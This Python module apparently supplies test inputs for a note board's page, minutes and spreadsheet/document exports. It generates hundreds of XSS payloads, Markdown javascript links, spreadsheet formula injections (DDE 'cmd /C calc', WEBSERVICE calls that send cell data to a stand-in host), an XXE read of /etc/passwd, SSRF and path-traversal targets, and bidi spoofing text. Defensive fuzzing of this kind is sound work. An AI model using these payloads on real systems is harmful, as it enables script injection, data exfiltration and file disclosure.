"""What somebody may write to harm whoever reads it, in a browser or in a file taken home.

One list for all who turn people's words into something else: pages, minutes and exports. Each
text is one that the board takes in as a note, so it can stand in any of them.
"""

from __future__ import annotations

from itertools import product
from unicodedata import normalize

#: Sets ``window.harmed`` where it is run as script. In each kind of quotes, for each place.
_DEED = "window.harmed=1"

_TAGS = (
    "<script>{}</script>",
    "<SCRIPT >{}</SCRIPT >",
    "<script/x>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img/src=x/onerror={}//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>klikk</a>",
    "<a href=' &#106;avascript:{}'>klikk</a>",
    "<form action='javascript:{}'><button>send</button></form>",
    "<button formaction='javascript:{}'>send</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={}>",
    "<style onload={}></style>",
    "<base href='javascript:{}//'>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<p style='animation:x' onanimationend={}>",
    "<x contenteditable autofocus onfocus={}>x</x>",
    "<isindex action='javascript:{}' type=image>",
    "<dialog open onclose={}></dialog>",
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title></head>{}",
    "--><!-- -->{}",
    "]]>{}",
    "`;{}//",
    "${{{}}}",
    "{{{{{}}}}}",
    "\\u003c{}",
    "</script>{}",
    "</p></li></ul>{}",
    "x\n{}",
)
#: About 500: each way to make a browser run something, out of each place that text can be in.
MARKUP = tuple(around.format(tag.format(_DEED)) for tag, around in product(_TAGS, _AROUND))

#: What Markdown readers take for a link, an image, HTML, a heading, a table or code.
MARKDOWN = (
    f"[klikk](javascript:{_DEED})",
    f"[klikk](<javascript:{_DEED}>)",
    f"[klikk][1]\n\n[1]: javascript:{_DEED}",
    f'![bilde](x"onerror="{_DEED})',
    "![bilde](https://allemed.invalid/piksel.png)",
    "<https://allemed.invalid/>",
    f"<javascript:{_DEED}>",
    f"<b onclick={_DEED}>fet</b>",
    "# Overskrift som ikke er vår",
    "- punkt\n  - innrykk",
    "1. først\n2. så",
    "> sitat",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\nkode\n```",
    "`kode` **fet** _kursiv_ ~~strøket~~",
    "***\n---\n___",
    "Overskrift\n=====",
    "&lt;script&gt; &#60;script&#62;",
    "[^1]: fotnote",
    "- [x] gjort",
    "\\[ \\( \\`",
    ":emoji: @noen #1 https://allemed.invalid",
)

_CALLS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://allemed.invalid/?x="&A1,"klikk")',
    'WEBSERVICE("https://allemed.invalid/")',
    'IMPORTXML("https://allemed.invalid/","//a")',
    'IMAGE("https://allemed.invalid/p.png")',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTDATA(CONCAT("https://allemed.invalid/",A1))',
    "2+5+cmd|' /C notepad'!'A1'",
)
#: 60: whatever a spreadsheet calculates instead of showing.
FORMULAS = tuple(f"{sign}{call}" for sign, call in product("=+-@", _CALLS)) + tuple(
    f"{blank}={call}" for blank, call in product(("x\n", "\uff1d"), _CALLS)
)

#: What breaks XML, and with it Word's and Excel's files; the board lets some of it in.
XML = (
    "x\ufffe",
    "x\uffff",
    "a\ufffeb\uffffc",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "&b; &amp; &#0; &#x1f;",
    "_x0000_ _x000D_",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "x\U0001fffe\U0010ffff",
    "\u2028linje\u2029avsnitt",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
)

#: What is read as a place to fetch something from.
PLACES = (
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "https://allemed.invalid/spor",
    "\\\\allemed.invalid\\del",
    "data:text/html,<script>window.harmed=1</script>",
    "../../../../etc/passwd",
)

#: Names that every object in JavaScript has, and what formats of text take for their own.
NAMES_OF_OBJECTS = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty",
    "__defineGetter__", "__lookupSetter__", "isPrototypeOf", "then", "toJSON", "length",
    "propertyIsEnumerable", "toLocaleString", "__defineSetter__", "__lookupGetter__", "name",
    "caller", "callee", "arguments", "apply", "bind", "call", "catch", "finally", "window", "self",
    "document", "location", "top", "parent", "frames", "opener", "cookie", "forms", "body", "head",
    "children", "attributes", "firstChild", "innerHTML", "onclick", "nodeName",
    "{name}$&$'", "$&", "%s%n%x", "{0}", "{{name}}", "null", "undefined", "NaN", "-1",
)  # fmt: skip

#: Text that is long, stacks, turns or joins. What is invisible and deceives is taken away.
SHAPES = (
    "a" * 2000,
    "م" * 300,
    "השם שלי הוא דניאל",
    "می\u200cخواهم بازی کنم",
    normalize("NFC", "Z" + "\u0337" * 60 + "a" + "\u0300\u0301\u0302" * 20 + "lgo"),
    "👩‍👩‍👧‍👦" * 60,
    "\u202eFaktura fdp.exe\u202c \u2067bak\u2069 fram",
    "usynlig \U000e0041\U000e0042 merke \ufeff",
    "𝔊𝔬𝔱𝔦𝔰𝔨 ﷽ " * 20,
    "W" * 40 + " " + "i" * 400,
    "\u0600\u0601\u070f\u08e2",
    "x\u115f\u1160\u3164\uffa0",
    "Ⅷ ½ ㎏ ﬃ İı ẞß",
)

_WORDS = (
    "fritidsklubben", "W", "مرحبا", "שלום", "สวัสดีครับ", "こんにちは", "नमस्ते", "안녕하세요", "Привет",
    "ꦧꦱꦗꦮ", "བོད་སྐད", "ﷺ", "𒈙", "⸻", "𝔊𝔬𝔱", "👩\u200d👩\u200d👧\u200d👦", "🏳\ufe0f\u200d🌈",
    "Z\u0337\u0338\u0322a\u0300\u0301o\u0308\u0304",
    "a\u00adb", "می\u200cخواهم", "ｆｕｌｌ", "ﬃ", "██", "https://a.no/?b=c&d", "1/2·3−4",
)  # fmt: skip
_WAYS = (
    "{}", "{0}" * 60, "{0} " * 20, "abc {} def", "{0}123{0}", "({0})\n- {0}:\n{0}",
    "\u202e{0}\u202c!", "«{0}»\u2067{0}\u2069",
)  # fmt: skip
#: Two hundred: words of many scripts, in each way they can be long, mixed, stacked or turned.
WORDS = tuple(way.format(word) for word, way in product(_WORDS, _WAYS))

#: Everything, each text once, in an order that does not change.
ALL = tuple(
    dict.fromkeys(
        (*MARKUP, *MARKDOWN, *FORMULAS, *XML, *PLACES, *NAMES_OF_OBJECTS, *SHAPES, *WORDS)
    )
)
